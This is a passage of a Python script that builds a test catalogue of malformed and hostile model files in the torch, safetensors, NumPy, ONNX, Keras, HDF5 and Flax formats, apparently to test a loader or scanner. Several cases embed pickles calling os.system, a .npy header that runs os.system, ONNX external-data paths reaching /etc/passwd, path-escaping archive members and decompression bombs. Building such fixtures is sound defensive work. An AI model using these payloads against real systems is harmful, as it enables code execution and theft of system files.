def _() -> Output:
    """A torch archive whose central directory is cut short while its end record still points at it."""
    return zip_bytes(torch_members(lstm_pickle()), cut_directory=40)


@case("zip_encrypted_member.pt")
def _() -> Output:
    """data.pkl flagged as encrypted (general purpose bit 0)."""
    members = torch_members(lstm_pickle())
    members[0].flags = 1
    return zip_bytes(members)


@case("zip_unknown_compression.pt")
def _() -> Output:
    """data.pkl compressed with method 99 (AES), which no reader here decodes."""
    members = torch_members(lstm_pickle())
    members[0].method = 99
    return zip_bytes(members)


@case("zip_bad_crc.pt")
def _() -> Output:
    """data.pkl whose CRC-32 does not match its bytes (tampered after archiving)."""
    members = torch_members(lstm_pickle())
    members[0].crc = 0xDEADBEEF
    return zip_bytes(members)


@case("zip_two_data_pkl.pt")
def _() -> Output:
    """Two archives in one zip: a/data.pkl and b/data.pkl, each with its storages."""
    return zip_bytes([*torch_members(lstm_pickle(), "a"), *torch_members(lstm_pickle(), "b")])


@case("zip_duplicate_member.pt")
def _() -> Output:
    """archive/data/0 twice, 4 bytes then 96 (readers disagree on which one counts)."""
    members = torch_members(lstm_pickle())
    return zip_bytes([Member("archive/data/0", b"\0" * 4), *members])


# ---------------------------------------------------------------------------------------------
# torch archives whose records and storages disagree


@case("torch_storage_exceeds_member.pt")
def _() -> Output:
    """A storage declaring 1,000,000 floats whose member holds 96 bytes."""
    return torch_zip(lstm_pickle(weight_ih_l0=tensor("0", (8, 3), count=1_000_000)))


@case("torch_storage_missing.pt")
def _() -> Output:
    """A state dict whose first storage (archive/data/0) is not in the archive."""
    data = storage_bytes()
    del data["0"]
    return torch_zip(lstm_pickle(), data=data)


@case("torch_tensor_beyond_storage.pt")
def _() -> Output:
    """weight_ih_l0 declares size (8, 300) on a storage of 24 floats."""
    return torch_zip(lstm_pickle(weight_ih_l0=tensor("0", (8, 300), count=24)))


@case("torch_offset_beyond_storage.pt")
def _() -> Output:
    """bias_hh_l0 starts at element 1,000,000 of an 8-float storage."""
    return torch_zip(lstm_pickle(bias_hh_l0=tensor("3", (8,), offset=1_000_000)))


@case("torch_negative_numel.pt")
def _() -> Output:
    """A storage whose persistent id declares -1 elements."""
    return torch_zip(lstm_pickle(bias_hh_l0=tensor("3", (8,), count=-1)))


@case("torch_storage_key_escapes.pt")
def _() -> Output:
    """A storage key of ../../CANARY, and a member of that name to match it."""
    pid = storage_pid("../../CANARY", 8)
    data = {**storage_bytes(), "../../CANARY": bytes(32)}
    return torch_zip(lstm_pickle(bias_hh_l0=tensor("3", (8,), pid=pid)), data=data)


@case("torchscript_archive.pt")
def _() -> Output:
    """A TorchScript archive (constants.pkl and code/): Python source the JIT would compile and run."""
    members = [
        *torch_members(lstm_pickle()),
        Member("archive/constants.pkl", proto() + tup() + STOP),
        Member("archive/code/__torch__.py", f"def forward(self):\n    {SOURCE}\n".encode()),
    ]
    return zip_bytes(members)


@case("torch_truncated.pt")
def _() -> Output:
    """A torch archive cut in half (its central directory gone)."""
    full = torch_zip(lstm_pickle())
    return full[: len(full) // 2]


# ---------------------------------------------------------------------------------------------
# safetensors


def st_header(header: dict[str, object] | str | bytes, data: bytes = b"", length: int | None = None) -> bytes:
    """A safetensors file: the 8-byte header length, the header, the data."""
    raw = header if isinstance(header, bytes) else (header if isinstance(header, str) else json.dumps(header)).encode()
    return struct.pack("<Q", len(raw) if length is None else length) + raw + data


def st_lstm(**overrides: dict[str, object]) -> dict[str, object]:
    """The LSTM's safetensors header (names as PyTorch gives them), with entries replaced."""
    header: dict[str, object] = {}
    offset = 0
    for name, shape in LSTM:
        size = 4 * numel(shape)
        header[name] = {"dtype": "F32", "shape": list(shape), "data_offsets": [offset, offset + size]}
        offset += size
    header.update(overrides)
    return header


ST_DATA = bytes(4 * sum(numel(s) for _, s in LSTM))


@baseline("lstm.safetensors", params=56)
def lstm_safetensors() -> bytes:
    """torch.nn.LSTM(3, 2)'s state dict as a safetensors file."""
    return st_header(st_lstm(), ST_DATA)


@case("safetensors_header_longer_than_file.safetensors")
def _() -> Output:
    """The header length field declares 100,000 bytes in a file of 534."""
    return st_header(st_lstm(), ST_DATA, length=100_000)


@case("safetensors_header_not_json.safetensors")
def _() -> Output:
    """A header that starts like JSON and is not (invalid UTF-8 inside)."""
    return st_header(b'{"weight_ih_l0": \xff\xfe}', ST_DATA)


@case("safetensors_deep_nesting.safetensors")
def _() -> Output:
    """A header of 20,000 nested JSON arrays under __metadata__."""
    depth = 20_000
    return st_header('{"__metadata__": ' + "[" * depth + "]" * depth + "}", ST_DATA)


@case("safetensors_offsets_beyond_data.safetensors")
def _() -> Output:
    """bias_hh_l0's data_offsets end 1 MB past the end of the data."""
    return st_header(st_lstm(bias_hh_l0={"dtype": "F32", "shape": [8], "data_offsets": [224, 224 + 2**20]}), ST_DATA)


@case("safetensors_overlapping_offsets.safetensors")
def _() -> Output:
    """weight_hh_l0 and bias_ih_l0 claim overlapping bytes of the data."""
    return st_header(st_lstm(bias_ih_l0={"dtype": "F32", "shape": [8], "data_offsets": [100, 132]}), ST_DATA)


@case("safetensors_unknown_dtype.safetensors")
def _() -> Output:
    """A tensor of dtype 'F128', which safetensors does not define."""
    return st_header(st_lstm(bias_hh_l0={"dtype": "F128", "shape": [2], "data_offsets": [192, 224]}), ST_DATA)


@case("safetensors_negative_shape.safetensors")
def _() -> Output:
    """A tensor of shape [-8]."""
    return st_header(st_lstm(bias_hh_l0={"dtype": "F32", "shape": [-8], "data_offsets": [192, 224]}), ST_DATA)


@case("safetensors_huge_shape.safetensors")
def _() -> Output:
    """A tensor of shape [2**40, 2**40] (2**80 elements)."""
    return st_header(st_lstm(bias_hh_l0={"dtype": "F32", "shape": [2**40, 2**40], "data_offsets": [192, 224]}), ST_DATA)


@case("safetensors_huge_integer.safetensors")
def _() -> Output:
    """A shape holding a 5,000-digit integer (beyond Python's integer-parsing limit)."""
    header = json.dumps(st_lstm()).replace(
        '"shape": [8], "data_offsets": [192', '"shape": [' + "9" * 5000 + '], "data_offsets": [192'
    )
    return st_header(header, ST_DATA)


@case("safetensors_shape_span_mismatch.safetensors")
def _() -> Output:
    """bias_hh_l0 declares shape [8] (32 bytes) over a 16-byte span."""
    return st_header(st_lstm(bias_hh_l0={"dtype": "F32", "shape": [8], "data_offsets": [192, 208]}), ST_DATA)


@case("safetensors_header_not_object.safetensors")
def _() -> Output:
    """A header that is a JSON array, not an object."""
    return st_header(json.dumps(list(st_lstm().items())), ST_DATA)


@case("safetensors_entry_not_object.safetensors")
def _() -> Output:
    """A tensor entry that is a number rather than {dtype, shape, data_offsets}."""
    return st_header(st_lstm(bias_hh_l0=5), ST_DATA)


@case("safetensors_duplicate_name.safetensors")
def _() -> Output:
    """The header names weight_ih_l0 twice, with two shapes (JSON readers keep one or the other)."""
    header = json.dumps(st_lstm())
    twin = '"weight_ih_l0": {"dtype": "F32", "shape": [8, 3], "data_offsets": [0, 96]}'
    assert twin in header
    header = header.replace(twin, twin + ', "weight_ih_l0": {"dtype": "F32", "shape": [4, 6], "data_offsets": [0, 96]}')
    return st_header(header, ST_DATA)


@case("safetensors_truncated.safetensors")
def _() -> Output:
    """A safetensors file cut off inside its data."""
    full = lstm_safetensors()
    return full[: len(full) - 100]


@case("safetensors_truncated_header.safetensors")
def _() -> Output:
    """A safetensors file cut off inside its header."""
    full = lstm_safetensors()
    return full[:100]


# ---------------------------------------------------------------------------------------------
# NumPy .npz / .npy


def npy(
    descr: str = "<f4", shape: tuple[int, ...] = (8, 3), data: bytes | None = None, header: str | None = None
) -> bytes:
    """A version 1.0 .npy file: magic, header length, the header dict padded to 64 bytes, the data."""
    text = header if header is not None else f"{{'descr': {descr!r}, 'fortran_order': False, 'shape': {shape!r}, }}"
    pad = 64 - (10 + len(text) + 1) % 64
    raw = (text + " " * (pad % 64) + "\n").encode("latin-1")
    body = bytes(4 * numel(shape)) if data is None else data
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(raw)) + raw + body


def npz(**members: bytes) -> bytes:
    """A .npz archive (stored members, as numpy.savez writes them)."""
    return zip_bytes(Member(f"{name}.npy", raw) for name, raw in members.items())


def npz_lstm(**overrides: bytes) -> bytes:
    """The LSTM's tensors as an .npz, with members replaced."""
    return npz(**{name: overrides.get(name, npy(shape=shape)) for name, shape in LSTM})


@baseline("lstm.npz", params=56)
def lstm_npz() -> bytes:
    """numpy.savez of torch.nn.LSTM(3, 2)'s tensors."""
    return npz_lstm()


@case("npz_shape_beyond_data.npz")
def _() -> Output:
    """A member whose header declares shape (1000, 1000) over 96 bytes of data."""
    return npz_lstm(weight_ih_l0=npy(shape=(1000, 1000), data=bytes(96)))


@case("npz_object_pickle.npz")
def _() -> Output:
    """A member of dtype object: its data is a pickle calling os.system (numpy.load(allow_pickle=True) runs it)."""
    return npz_lstm(bias_hh_l0=npy("|O", (1,), proto(3) + os_system() + STOP))


@case("npz_header_code.npz")
def _() -> Output:
    """A .npy header that is code, not a literal: a reader that evaluated it would run os.system."""
    text = f"{{'descr': __import__('os').system({SHELL!r}) or '<f4', 'fortran_order': False, 'shape': (8,), }}"
    return npz_lstm(bias_hh_l0=npy(header=text, shape=(8,)))


@case("npz_header_cut_short.npz")
def _() -> Output:
    """A .npy header whose length field declares 60,000 bytes; the member holds 160."""
    raw = npy(shape=(8,))
    return npz_lstm(bias_hh_l0=raw[:8] + struct.pack("<H", 60_000) + raw[10:])


@case("npz_header_deep_nesting.npz")
def _() -> Output:
    """A .npy header whose shape is 5,000 nested tuples."""
    text = "{'descr': '<f4', 'fortran_order': False, 'shape': " + "(" * 5000 + ")" * 5000 + ", }"
    return npz_lstm(bias_hh_l0=npy(header=text, shape=(8,)))


@case("npz_header_huge_int.npz")
def _() -> Output:
    """A .npy header whose shape is a 5,000-digit integer."""
    text = "{'descr': '<f4', 'fortran_order': False, 'shape': (" + "9" * 5000 + ",), }"
    return npz_lstm(bias_hh_l0=npy(header=text, shape=(8,)))


@case("npz_structured_dtype.npz")
def _() -> Output:
    """A member of a structured dtype [('a', '<f4'), ('b', 'O')] (records holding objects)."""
    text = "{'descr': [('a', '<f4'), ('b', '|O')], 'fortran_order': False, 'shape': (8,), }"
    return npz_lstm(bias_hh_l0=npy(header=text, shape=(8,)))


@case("npz_member_escapes.npz")
def _() -> Output:
    """An .npz with a member named ../../CANARY.npy."""
    return zip_bytes(
        [Member(f"{name}.npy", npy(shape=shape)) for name, shape in LSTM]
        + [Member("../../CANARY.npy", npy(shape=(1,)))]
    )


@case("npz_bad_crc.npz")
def _() -> Output:
    """A member whose CRC-32 does not match its bytes."""
    members = [Member(f"{name}.npy", npy(shape=shape)) for name, shape in LSTM]
    members[3].crc = 0xDEADBEEF
    return zip_bytes(members)


@case("npz_deflate_size_lie.npz")
def _() -> Output:
    """A member declaring 160 bytes whose deflate stream expands to 10 MB."""
    size = 1 + 258 * 40_000
    members = [Member(f"{name}.npy", npy(shape=shape)) for name, shape in LSTM]
    members[3] = Member("bias_hh_l0.npy", method=8, stored=deflate_bomb(0, size), size=160, crc=bomb_crc(0, size))
    return zip_bytes(members)


@case("npz_truncated.npz")
def _() -> Output:
    """An .npz cut off in its last member (the central directory gone)."""
    full = lstm_npz()
    return full[: len(full) - 200]


@case("npy_object_pickle.npy")
def _() -> Output:
    """A bare .npy of dtype object whose data is a pickle calling os.system."""
    return npy("|O", (1,), proto(3) + os_system() + STOP)


# ---------------------------------------------------------------------------------------------
# ONNX: protobuf, encoded by hand


def varint(n: int) -> bytes:
    """A protobuf varint (negative numbers as 64-bit two's complement)."""
    n &= (1 << 64) - 1
    out = bytearray()
    while True:
        byte = n & 0x7F
        n >>= 7
        if n:
            out.append(byte | 0x80)
        else:
            out.append(byte)
            return bytes(out)


def pb_int(number: int, value: int) -> bytes:
    """A varint field."""
    return varint(number << 3) + varint(value)


def pb_bytes(number: int, value: bytes | str) -> bytes:
    """A length-delimited field."""
    raw = value.encode() if isinstance(value, str) else value
    return varint(number << 3 | 2) + varint(len(raw)) + raw


def onnx_tensor(
    name: str, dims: tuple[int, ...], raw: bytes | None = None, external: list[tuple[str, str]] | None = None
) -> bytes:
    """A float TensorProto: its dims, data_type FLOAT, name, then raw_data or external_data."""
    out = b"".join(pb_int(1, d) for d in dims) + pb_int(2, 1) + pb_bytes(8, name)
    if external is None:
        out += pb_bytes(9, bytes(4 * numel(dims)) if raw is None else raw)
    else:
        out += b"".join(pb_bytes(13, pb_bytes(1, k) + pb_bytes(2, v)) for k, v in external) + pb_int(14, 1)
    return out


def value_info(name: str, dims: tuple[int, ...] | None) -> bytes:
    """A ValueInfoProto of a float tensor."""
    shape = b"" if dims is None else pb_bytes(2, b"".join(pb_bytes(1, pb_int(1, d)) for d in dims))
    return pb_bytes(1, name) + pb_bytes(2, pb_bytes(1, pb_int(1, 1) + shape))


def lstm_node(extra: bytes = b"") -> bytes:
    """An LSTM NodeProto with hidden_size 2."""
    node = b"".join(pb_bytes(1, x) for x in ("X", "W", "R", "B")) + pb_bytes(2, "Y")
    node += pb_bytes(3, "lstm") + pb_bytes(4, "LSTM")
    node += pb_bytes(5, pb_bytes(1, "hidden_size") + pb_int(3, 2) + pb_int(20, 2))
    return node + extra


LSTM_INITS = [("W", (1, 8, 3)), ("R", (1, 8, 2)), ("B", (1, 16))]


def onnx_graph(initializers: list[bytes] | None = None) -> bytes:
    """A GraphProto of one LSTM(3, 2) over a (4, 1, 3) input, its weights as initializers."""
    inits = [onnx_tensor(n, d) for n, d in LSTM_INITS] if initializers is None else initializers
    graph = pb_bytes(1, lstm_node()) + pb_bytes(2, "lstm")
    graph += b"".join(pb_bytes(5, t) for t in inits)
    return graph + pb_bytes(11, value_info("X", (4, 1, 3))) + pb_bytes(12, value_info("Y", (4, 1, 1, 2)))


def onnx_model(initializers: list[bytes] | None = None, graph: bytes | None = None) -> bytes:
    """A ModelProto (ir_version 8, opset 14) of that graph."""
    body = onnx_graph(initializers) if graph is None else graph
    return pb_int(1, 8) + pb_bytes(7, body) + pb_bytes(8, pb_int(2, 14))


@baseline("lstm.onnx", params=56)
def lstm_onnx() -> bytes:
    """An ONNX model of one LSTM node (hidden_size 2) on 3 features, its weights as initializers."""
    return onnx_model()


def external(location: str, offset: int, length: int) -> list[tuple[str, str]]:
    """A tensor's external_data entries."""
    return [("location", location), ("offset", str(offset)), ("length", str(length))]


def onnx_external(name: str, location: str, offset: int = 0, length: int = 96, data: Output | None = None) -> Output:
    """An LSTM whose W lives in an external file at ``location``."""
    inits = [onnx_tensor("W", (1, 8, 3), external=external(location, offset, length))]
    inits += [onnx_tensor(n, d) for n, d in LSTM_INITS[1:]]
    model = onnx_model(inits)
    return {name: model, **({} if data is None else data)}  # type: ignore[dict-item]


@case("onnx_external_data_escapes.onnx")
def _() -> Output:
    """An initializer's external data location is ../../etc/passwd."""
    return onnx_external("onnx_external_data_escapes.onnx", "../../etc/passwd")


@case("onnx_external_data_absolute.onnx")
def _() -> Output:
    """An initializer's external data location is the absolute path /etc/passwd."""
    return onnx_external("onnx_external_data_absolute.onnx", "/etc/passwd")


@case("onnx_external_data_symlink.onnx")
def _() -> Output:
    """The external data file beside the model is a symbolic link to /etc/passwd."""
    name = "onnx_external_data_symlink.onnx"
    return onnx_external(name, name + ".data", data={name + ".data": Link("/etc/passwd")})


@case("onnx_external_data_beyond_file.onnx")
def _() -> Output:
    """External data at offset 1,000,000 of a 96-byte data file."""
    name = "onnx_external_data_beyond_file.onnx"
    return onnx_external(name, name + ".data", offset=1_000_000, data={name + ".data": bytes(96)})


@case("onnx_external_data_length_mismatch.onnx")
def _() -> Output:
    """External data of 8 bytes for a (1, 8, 3) float tensor (96 bytes)."""
    name = "onnx_external_data_length_mismatch.onnx"
    return onnx_external(name, name + ".data", length=8, data={name + ".data": bytes(96)})


@case("onnx_external_data_missing.onnx")
def _() -> Output:
    """External data in a file that is not there."""
    name = "onnx_external_data_missing.onnx"
    return onnx_external(name, name + ".data")


@case("onnx_field_beyond_file.onnx")
def _() -> Output:
    """The graph field declares 1,000,000 bytes in a 386-byte file."""
    return pb_int(1, 8) + b"\x3a" + varint(1_000_000) + onnx_graph() + pb_bytes(8, pb_int(2, 14))


@case("onnx_raw_data_short.onnx")
def _() -> Output:
    """W declares dims (1, 8, 3) (96 bytes of floats) and holds 10 bytes of raw_data."""
    inits = [onnx_tensor("W", (1, 8, 3), raw=bytes(10))] + [onnx_tensor(n, d) for n, d in LSTM_INITS[1:]]
    return onnx_model(inits)


@case("onnx_negative_dims.onnx")
def _() -> Output:
    """W declares dims (1, -8, 3)."""
    inits = [onnx_tensor("W", (1, -8, 3), raw=bytes(96))] + [onnx_tensor(n, d) for n, d in LSTM_INITS[1:]]
    return onnx_model(inits)


@case("onnx_huge_dims.onnx")
def _() -> Output:
    """W declares dims (2**40, 2**40, 3) with 96 bytes of data."""
    inits = [onnx_tensor("W", (2**40, 2**40, 3), raw=bytes(96))] + [onnx_tensor(n, d) for n, d in LSTM_INITS[1:]]
    return onnx_model(inits)


@case("onnx_nested_subgraphs.onnx")
def _() -> Output:
    """1,000 If nodes nested in one another's then_branch attribute (3,000 levels of messages)."""
    graph = pb_bytes(1, lstm_node())
    for _ in range(1_000):
        attribute = pb_bytes(1, "then_branch") + pb_bytes(6, graph) + pb_int(20, 5)
        node = pb_bytes(1, "cond") + pb_bytes(2, "Y") + pb_bytes(4, "If") + pb_bytes(5, attribute)
        graph = pb_bytes(1, node) + pb_bytes(2, "branch")
    return onnx_model(graph=graph)


@case("onnx_truncated_varint.onnx")
def _() -> Output:
    """The file ends inside the graph field's length varint."""
    return pb_int(1, 8) + b"\x3a\xff\xff\xff"


@case("onnx_overlong_varint.onnx")
def _() -> Output:
    """The graph's length is a varint of 20 bytes (more than 64 bits)."""
    return pb_int(1, 8) + b"\x3a" + b"\xff" * 19 + b"\x01" + onnx_graph() + pb_bytes(8, pb_int(2, 14))


@case("onnx_wrong_wire_type.onnx")
def _() -> Output:
    """The graph field (7) arrives as a varint instead of a message."""
    return pb_int(1, 8) + pb_bytes(8, pb_int(2, 14)) + pb_int(7, 12345)


@case("onnx_truncated.onnx")
def _() -> Output:
    """An ONNX model cut off inside its initializers."""
    full = lstm_onnx()
    return full[: len(full) // 2]


# ---------------------------------------------------------------------------------------------
# Keras 3 .keras archives and HDF5


def h5_file(build: Callable[[Any], None]) -> bytes:
    """An HDF5 file written by h5py (no timestamps, earliest file format: the same bytes each time)."""
    import h5py

    buf = io.BytesIO()
    with h5py.File(buf, "w", libver="earliest", track_order=False) as handle:
        build(handle)
    return buf.getvalue()


def keras3_weights() -> bytes:
    """model.weights.h5 of Sequential([Input((4, 3)), LSTM(2), Dense(1)]) as Keras 3 saves it."""
    import numpy as np

    def build(f: Any) -> None:
        groups = {
            "layers/lstm/cell/vars": ("lstm_cell", [(3, 8), (2, 8), (8,)]),
            "layers/dense/vars": ("dense", [(2, 1), (1,)]),
            "layers/lstm/vars": ("lstm", []),
            "vars": ("sequential", []),
        }
        for path, (name, shapes) in groups.items():
            group = f.create_group(path)
            group.attrs["name"] = name
            for n, shape in enumerate(shapes):
                group.create_dataset(str(n), data=np.zeros(shape, "<f4"), track_times=False)

    return h5_file(build)


def keras3_config() -> dict[str, object]:
    """config.json of that model."""
    dtype = {"module": "keras", "class_name": "DTypePolicy", "config": {"name": "float32"}, "registered_name": None}
    layers = [
        {
            "module": "keras.layers",
            "class_name": "InputLayer",
            "config": {"batch_shape": [None, 4, 3], "dtype": "float32", "sparse": False, "name": "input_layer"},
            "registered_name": None,
        },
        {
            "module": "keras.layers",
            "class_name": "LSTM",
            "config": {"name": "lstm", "trainable": True, "dtype": dtype, "units": 2, "use_bias": True},
            "registered_name": None,
            "build_config": {"input_shape": [None, 4, 3]},
        },
        {
            "module": "keras.layers",
            "class_name": "Dense",
            "config": {"name": "dense", "trainable": True, "dtype": dtype, "units": 1, "use_bias": True},
            "registered_name": None,
            "build_config": {"input_shape": [None, 2]},
        },
    ]
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "sequential", "trainable": True, "dtype": dtype, "layers": layers},
        "registered_name": None,
        "build_config": {"input_shape": [None, 4, 3]},
    }


METADATA = json.dumps({"keras_version": "3.15.1", "date_saved": "2026-01-01@00:00:00"}).encode()


def keras_members(config: bytes | None = None, weights: bytes | None = None) -> list[Member]:
    """The members of a .keras archive."""
    return [
        Member("metadata.json", METADATA),
        Member("config.json", json.dumps(keras3_config()).encode() if config is None else config),
        Member("model.weights.h5", keras3_weights() if weights is None else weights),
    ]


@baseline("lstm.keras", params=51)
def lstm_keras() -> bytes:
    """A Keras 3 .keras archive of Sequential([Input((4, 3)), LSTM(2), Dense(1)])."""
    return zip_bytes(keras_members())


@case("keras_config_missing.keras")
def _() -> Output:
    """A .keras archive without config.json."""
    return zip_bytes([m for m in keras_members() if m.name != "config.json"])


@case("keras_config_not_json.keras")
def _() -> Output:
    """A .keras archive whose config.json is not JSON."""
    return zip_bytes(keras_members(config=b"{'module': 'keras', class_name: Sequential"))


@case("keras_config_deep_nesting.keras")
def _() -> Output:
    """A config.json of 10,000 nested JSON objects."""
    depth = 10_000
    return zip_bytes(keras_members(config=b'{"a":' * depth + b"1" + b"}" * depth))


@case("keras_config_deflate_bomb.keras")
def _() -> Output:
    """config.json deflated from 10 MB of spaces into 10 KB."""
    size = 1 + 258 * 40_000
    members = keras_members()
    members[1] = Member("config.json", method=8, stored=deflate_bomb(32, size), size=size, crc=bomb_crc(32, size))
    return zip_bytes(members)


@case("keras_weights_truncated.keras")
def _() -> Output:
    """A .keras archive whose model.weights.h5 is cut in half."""
    weights = keras3_weights()
    return zip_bytes(keras_members(weights=weights[: len(weights) // 2]))


@case("keras_member_escapes.keras")
def _() -> Output:
    """A .keras archive with a member named ../../CANARY."""
    return zip_bytes([*keras_members(), Member("../../CANARY", b"x")])


@case("keras_truncated.keras")
def _() -> Output:
    """A .keras archive cut in half."""
    full = lstm_keras()
    return full[: len(full) // 2]


def keras2_h5() -> bytes:
    """A Keras 2 .h5 weights file (model.save_weights) of LSTM(2) and Dense(1)."""
    import numpy as np

    def build(f: Any) -> None:
        f.attrs["layer_names"] = np.array([b"lstm", b"dense"])
        f.attrs["backend"] = b"tensorflow"
        f.attrs["keras_version"] = b"2.15.0"
        for layer, names in (
            (
                "lstm",
                [("lstm_cell/kernel:0", (3, 8)), ("lstm_cell/recurrent_kernel:0", (2, 8)), ("lstm_cell/bias:0", (8,))],
            ),
            ("dense", [("kernel:0", (2, 1)), ("bias:0", (1,))]),
        ):
            group = f.create_group(layer)
            group.attrs["weight_names"] = np.array([f"{layer}/{n}".encode() for n, _ in names])
            for n, shape in names:
                group.create_dataset(f"{layer}/{n}", data=np.zeros(shape, "<f4"), track_times=False)

    return h5_file(build)


@baseline("lstm.h5", params=51)
def lstm_h5() -> bytes:
    """Keras 2 weights of LSTM(2) and Dense(1), as model.save_weights('x.h5') writes them."""
    return keras2_h5()


@case("h5_truncated.h5")
def _() -> Output:
    """A Keras .h5 weights file cut in half."""
    full = keras2_h5()
    return full[: len(full) // 2]


@case("h5_magic_then_garbage.h5")
def _() -> Output:
    """The HDF5 signature followed by 2 KB of random bytes."""
    return b"\x89HDF\r\n\x1a\n" + random.Random(5).randbytes(2048)


@case("h5_superblock_only.h5")
def _() -> Output:
    """A Keras .h5 file cut right after its superblock (it declares an end of file 10 KB further)."""
    return keras2_h5()[:96]


# ---------------------------------------------------------------------------------------------
# Flax msgpack checkpoints


def mp_str(text: str) -> bytes:
    """A msgpack str."""
    raw = text.encode()
    return (bytes([0xA0 | len(raw)]) if len(raw) < 32 else b"\xd9" + bytes([len(raw)])) + raw


def mp_uint(n: int) -> bytes:
    """A msgpack unsigned integer, in its shortest form."""
    if n < 128:
        return bytes([n])
    for tag, fmt in ((b"\xcc", ">B"), (b"\xcd", ">H"), (b"\xce", ">I")):
        if n < 256 ** struct.calcsize(fmt):
            return tag + struct.pack(fmt, n)
    return b"\xcf" + struct.pack(">Q", n)


def mp_map(pairs: list[tuple[bytes, bytes]]) -> bytes:
    """A msgpack map of packed (key, value)."""
    head = bytes([0x80 | len(pairs)]) if len(pairs) < 16 else b"\xde" + struct.pack(">H", len(pairs))
    return head + b"".join(k + v for k, v in pairs)


def mp_ndarray(shape: tuple[int, ...], data: bytes | None = None) -> bytes:
    """A float32 array as flax.serialization writes it: ext type 1 holding [shape, dtype name, bytes]."""
    raw = bytes(4 * numel(shape)) if data is None else data
    dims = bytes([0x90 | len(shape)]) + b"".join(mp_uint(d) for d in shape)
    body = (
        b"\x93"
        + dims
        + mp_str("float32")
        + (b"\xc4" + bytes([len(raw)]) if len(raw) < 256 else b"\xc5" + struct.pack(">H", len(raw)))
        + raw
    )
    return (
        b"\xc7" + bytes([len(body)]) + b"\x01" + body
        if len(body) < 256
        else b"\xc8" + struct.pack(">H", len(body)) + b"\x01" + body
    )


#: flax.linen.LSTMCell(2) on 3 features: kernels of the input (ii, if, ig, io) and hidden (hi, hf, hg, ho) paths
FLAX_CELL = [(f"i{g}", {"kernel": (3, 2)}) for g in "ifgo"] + [
    (f"h{g}", {"kernel": (2, 2), "bias": (2,)}) for g in "ifgo"
]


def flax_tree(cell: bytes | None = None) -> bytes:
    """flax.serialization.to_bytes({'params': {'LSTMCell_0': ...}})."""
    if cell is None:
        cell = mp_map([(mp_str(g), mp_map([(mp_str(k), mp_ndarray(s)) for k, s in ps.items()])) for g, ps in FLAX_CELL])
    return mp_map([(mp_str("params"), mp_map([(mp_str("LSTMCell_0"), cell)]))])


@baseline("lstm.msgpack", params=48)
def lstm_msgpack() -> bytes:
    """A Flax LSTMCell(2)'s params, as flax.serialization.to_bytes writes them."""
    return flax_tree()


@case("msgpack_huge_array_length.msgpack")
def _() -> Output:
    """A Flax tree whose cell is an array declaring 2**32 - 1 elements."""
    return flax_tree(b"\xdd\xff\xff\xff\xff")


@case("msgpack_huge_map_length.msgpack")
def _() -> Output:
    """A Flax tree whose cell is a map declaring 2**32 - 1 entries."""
    return flax_tree(b"\xdf\xff\xff\xff\xff")


@case("msgpack_huge_bin_length.msgpack")
def _() -> Output:
    """An array whose data is a bin declaring 2**32 - 1 bytes."""
    body = b"\x93\x92\x03\x02" + mp_str("float32") + b"\xc6\xff\xff\xff\xff"
    cell = mp_map([(mp_str("ii"), mp_map([(mp_str("kernel"), b"\xc7" + bytes([len(body)]) + b"\x01" + body)]))])
    return flax_tree(cell)


@case("msgpack_deep_nesting.msgpack")
def _() -> Output:
    """10,000 maps nested in one another under params."""
    depth = 10_000
    return flax_tree(b"\x81\xa1a" * depth + b"\xc0")


@case("msgpack_ndarray_beyond_data.msgpack")
def _() -> Output:
    """An array declaring shape (1000, 1000) over 24 bytes of data."""
    cell = mp_map([(mp_str("ii"), mp_map([(mp_str("kernel"), mp_ndarray((1000, 1000), bytes(24)))]))])
    return flax_tree(cell)


@case("msgpack_truncated.msgpack")
def _() -> Output:
    """A Flax checkpoint cut off in the middle."""
    full = lstm_msgpack()
    return full[: len(full) // 2]


# ---------------------------------------------------------------------------------------------
# unknown and mixed formats


@case("unknown_random_bytes.pt")
def _() -> Output:
    """4 KB of random bytes named .pt."""
    return random.Random(1).randbytes(4096)


@case("unknown_random_bytes.onnx")
def _() -> Output:
    """4 KB of random bytes named .onnx."""
    return random.Random(2).randbytes(4096)


@case("unknown_random_bytes.keras")
def _() -> Output:
    """4 KB of random bytes named .keras."""
    return random.Random(3).randbytes(4096)


@case("unknown_empty.pt")
def _() -> Output:
    """An empty file named .pt."""
    return b""


@case("unknown_text.pt")
def _() -> Output:
    """A text file named .pt (an HTML error page saved in place of the download)."""
    return b"<!DOCTYPE html>\n<html><head><title>404 Not Found</title></head><body>Not Found</body></html>\n"


@case("unknown_gzip.pt")
def _() -> Output:
    """A gzip-compressed checkpoint (gzip of a torch archive)."""
    raw = torch_zip(lstm_pickle())
    head = b"\x1f\x8b\x08\x00" + bytes(4) + b"\x00\x03"
    return head + deflate_stored(raw) + struct.pack("<II", zlib.crc32(raw), len(raw))


@case("unknown_plain_zip.pt")
def _() -> Output:
    """A zip archive of a README, named .pt."""
    return zip_bytes([Member("README.txt", b"weights are on the other server\n")])


@case("mixed_torch_and_keras.keras")
def _() -> Output:
    """One zip holding both a Keras 3 model (config.json, model.weights.h5) and a torch data.pkl."""
    return zip_bytes([*keras_members(), *torch_members(lstm_pickle())])


@case("mixed_npz_and_torch.npz")
def _() -> Output:
    """An .npz whose .npy members sit beside a torch archive/data.pkl."""
    members = [Member(f"{name}.npy", npy(shape=shape)) for name, shape in LSTM]
    return zip_bytes([*members, *torch_members(lstm_pickle())])


@case("mixed_pickle_then_zip.pt")
def _() -> Output:
    """A polyglot: a legacy-style state-dict pickle, then a whole torch zip archive after its STOP."""
    return lstm_pickle() + torch_zip(proto() + os_system() + STOP)


# ---------------------------------------------------------------------------------------------


def write(directory: Path, files: dict[str, bytes | Link]) -> None:
    """Write the files into ``directory``, removing what is there and not among them."""
    directory.mkdir(parents=True, exist_ok=True)
    for old in directory.iterdir():
        if old.name not in files and (old.is_file() or old.is_symlink()):
            old.unlink()
    for name, content in files.items():
        path = directory / name
        if path.is_symlink() or path.exists():
            path.unlink()
        if isinstance(content, Link):
            os.symlink(content.target, path)
        else:
            path.write_bytes(content)


def catalogue() -> dict[str, bytes | Link]:
    """Every file of the catalogue, companions included, by name."""
    files: dict[str, bytes | Link] = {}
    for name, (_, build) in CASES.items():
        made = build()
        if isinstance(made, bytes):
            files[name] = made
        else:
            assert name in made, name
            files.update(made)
    return files


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0] if __doc__ else None)
    parser.add_argument("outdir", nargs="?", type=Path, default=HERE / "files")
